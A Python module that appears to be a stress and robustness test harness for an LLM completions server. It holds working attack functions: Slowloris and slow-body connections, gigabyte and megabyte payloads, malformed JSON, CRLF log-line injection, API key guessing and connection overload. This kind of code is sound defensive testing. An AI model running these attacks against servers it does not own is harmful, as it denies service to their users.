"""Attacks on a server, one function each; a function makes the attack once.

`repeat` calls it until the time is over, and pauses between two calls, because attacker and server
share the processors. The server may cut off an attacker at any moment, so an attacker's own errors
do not count. An attack returns how each of its actions ended: with a status, "cut off", "left" (no
answer awaited), or "taken" (accepted in full).
"""

import json
import random
import socket
import time
from collections import Counter
from collections.abc import Callable
from contextlib import ExitStack, closing, suppress
from dataclasses import dataclass

SECONDS = 20.0  # timeout of a connection
_PAUSE = 0.02

_JSON = "Content-Type: application/json\r\n"


@dataclass(frozen=True, slots=True)
class Target:
    """The server under attack, as one client sees it.

    Attributes:
        address: host and port of the server.
        key: a valid API key.
        model: name of the model.
        chance: random numbers of this client.
    """

    address: tuple[str, int]
    key: str
    model: str
    chance: random.Random

    def connect(self) -> socket.socket:
        """Open a connection."""
        return socket.create_connection(self.address, timeout=SECONDS)

    def head(self, request: str, *headers: str, key: str | None = None) -> bytes:
        """Return the beginning of a request: the request line and the headers."""
        lines = [
            f"{request} HTTP/1.1",
            "Host: localhost",
            f"Authorization: Bearer {self.key if key is None else key}",
            *headers,
        ]
        return ("\r\n".join(lines) + "\r\n\r\n").encode("latin-1")

    def post(self, body: bytes, *, key: str | None = None) -> bytes:
        """Return a whole request for a completion."""
        return (
            self.head(
                "POST /v1/completions",
                f"Content-Type: application/json\r\nContent-Length: {len(body)}",
                key=key,
            )
            + body
        )

    def asked(self, **fields: object) -> bytes:
        """Return the body of a well-formed request."""
        return json.dumps(
            {"model": self.model, "prompt": "a", "max_tokens": 8, "temperature": 0, **fields}
        ).encode()

    def status(self, sent: bytes) -> str:
        """Send a request; return the status, and for a 503 whether Retry-After is missing."""
        with closing(self.connect()) as connection:
            with suppress(OSError):  # the server may refuse before all is sent
                connection.sendall(sent)
            try:
                answer = connection.recv(1 << 16)
            except OSError:
                return "cut off"
        status = answer[9:12].decode(errors="replace") or "cut off"
        without = status == "503" and b"retry-after" not in answer.lower()
        return "503 without Retry-After" if without else status


Attack = Callable[[Target], list[str]]


def repeat(attack: Attack, target: Target, seconds: float) -> Counter[str]:
    """Repeat an attack for some seconds, and count how its actions ended."""
    found: Counter[str] = Counter()
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            found.update(attack(target))
        except OSError:  # the server cut off the connection
            found["cut off"] += 1
        time.sleep(_PAUSE)
    return found


def slow_headers(target: Target) -> list[str]:
    """Slowloris: send the headers of many connections letter by letter."""
    with ExitStack() as stack:
        many = [stack.enter_context(closing(target.connect())) for _ in range(100)]
        for letter in b"GET /health HTT":
            for connection in many:
                with suppress(OSError):
                    connection.send(bytes([letter]))
            time.sleep(0.02)
    return ["left"] * len(many)


def slow_bodies(target: Target) -> list[str]:
    """Send the bodies of many requests byte by byte."""
    with ExitStack() as stack:
        many = [stack.enter_context(closing(target.connect())) for _ in range(100)]
        for connection in many:
            connection.sendall(target.head("POST /v1/completions", f"{_JSON}Content-Length: 1000"))
        for _ in range(10):
            for connection in many:
                with suppress(OSError):
                    connection.send(b" ")
            time.sleep(0.02)
    return ["left"] * len(many)


def slow_readers(target: Target) -> list[str]:
    """Ask for streams, and do not read them."""
    with ExitStack() as stack:
        for _ in range(8):
            connection = stack.enter_context(closing(socket.socket()))
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 12)
            connection.settimeout(SECONDS)
            connection.connect(target.address)
            connection.sendall(target.post(target.asked(stream=True, ignore_eos=True)))
        time.sleep(0.3)
    return ["left"] * 8


def half_closed(target: Target) -> list[str]:
    """Close the client's side of a connection after a request, and in the middle of one."""
    found = []
    for part in (1.0, 0.5):
        whole = target.post(target.asked())
        with closing(target.connect()) as connection:
            connection.sendall(whole[: int(part * len(whole))])
            connection.shutdown(socket.SHUT_WR)
            with suppress(OSError):
                found.append(connection.recv(1 << 16)[9:12].decode() or "cut off")
    return found


def large_bodies(target: Target) -> list[str]:
    """Send bodies of a gigabyte: with Content-Length, in large chunks, and in one-byte chunks."""
    announced = target.head("POST /v1/completions", f"{_JSON}Content-Length: {1 << 30}")
    chunked = target.head("POST /v1/completions", f"{_JSON}Transfer-Encoding: chunked")
    part = b" " * 0x10000
    return [
        _poured(target, announced, part),
        _poured(target, chunked, b"10000\r\n" + part + b"\r\n"),
        _poured(target, chunked, b"1\r\n \r\n" * 10_000),
    ]


def _poured(target: Target, head: bytes, part: bytes) -> str:
    """Send a body until the connection is cut off or a gigabyte is sent; return which happened."""
    with closing(target.connect()) as connection:
        try:
            connection.sendall(head)
            for _ in range((1 << 30) // len(part)):
                connection.sendall(part)
        except OSError:
            return "cut off"
    return "taken"


def large_headers(target: Target) -> list[str]:
    """Send a megabyte in one header, in many headers, and in the path."""
    return [
        target.status(target.head("GET /health", f"X-Long: {'a' * (1 << 20)}")),
        target.status(target.head("GET /health", "\r\n".join(["X-Many: a"] * 100_000))),
        target.status(target.head(f"GET /{'a' * (1 << 20)}")),
    ]


def pipelines(target: Target) -> list[str]:
    """Send a hundred requests before reading the first answer."""
    with closing(target.connect()) as connection:
        connection.sendall(target.head("GET /health") * 99)
        connection.sendall(target.head("GET /health", "Connection: close"))
        received = b""
        with suppress(OSError):
            while part := connection.recv(1 << 16):
                received += part
    return ["200"] * received.count(b"HTTP/1.1 200")


def malformed(target: Target) -> list[str]:
    """Send bodies that are not UTF-8, not JSON, deeply nested, truncated, or of huge numbers."""
    chance, good = target.chance, target.asked(tools=[])
    deep = b'{"model": "%b", "prompt": "a", "metadata": %b}'
    bodies = [
        good.replace(b'"a"', b'"\xff\xfe\xc3("'),
        b"[" * 100_000,
        b'{"a":' * 100_000,
        deep % (target.model.encode(), b"[" * 900 + b"]" * 900),
        good[: chance.randrange(len(good))],
        bytes(chance.randrange(256) for _ in range(200)),
        target.asked(logit_bias={"9" * 5000: 1}),
    ]
    return [target.status(target.post(body)) for body in bodies]


def cancellations(target: Target) -> list[str]:
    """Ask for streams, and close the connection at once or after the first bytes."""
    many = 50
    for _ in range(many):
        with closing(target.connect()) as connection:
            connection.sendall(target.post(target.asked(stream=True, ignore_eos=True)))
            if target.chance.random() < 0.2:
                with suppress(OSError):
                    connection.recv(10)
    return ["left"] * many


def guessed_keys(target: Target) -> list[str]:
    """Send keys that are almost right, empty, not ASCII, or too long."""
    guesses = [target.key[:-1], target.key + "x", target.key.upper(), "", "\xe9", "a" * 5000]
    return [target.status(target.post(target.asked(), key=guess)) for guess in guesses]


def injected_lines(target: Target) -> list[str]:
    """Send paths, methods and headers that imitate log lines; each call sends new ones."""
    number = target.chance.getrandbits(64)
    fake = "%0a%7b%22level%22%3a%22error%22%7d%0d%0a%e2%80%a8"
    return [
        target.status(target.head(f"GET /{fake}{number}")),
        target.status(target.head(f"GET /v1/models/{number}/{fake}")),
        target.status(target.head("GET /health", f'X-Request-ID: {number}", "level": "error')),
        target.status(target.head(f"M{number} /health")),
        target.status(target.head("GET /health", f"Host: {number}.example")),
    ]


def overload(target: Target) -> list[str]:
    """Send two hundred requests at once: ten times as many as the server has room for."""
    with ExitStack() as stack:
        many = [stack.enter_context(closing(target.connect())) for _ in range(200)]
        for connection in many:
            connection.sendall(target.post(target.asked(ignore_eos=True)))
        found = []
        for connection in many:
            with suppress(OSError):
                answer = connection.recv(1 << 16)
                without = answer[9:12] == b"503" and b"retry-after" not in answer.lower()
                found.append("503 without Retry-After" if without else answer[9:12].decode())
    return found


# Attacks with valid requests. The server has to answer them, so good clients have to wait.
LOADS: tuple[Attack, ...] = (overload,)

ATTACKS: tuple[Attack, ...] = (
    slow_headers,
    slow_bodies,
    slow_readers,
    half_closed,
    large_bodies,
    large_headers,
    pipelines,
    malformed,
    cancellations,
    guessed_keys,
    injected_lines,
)
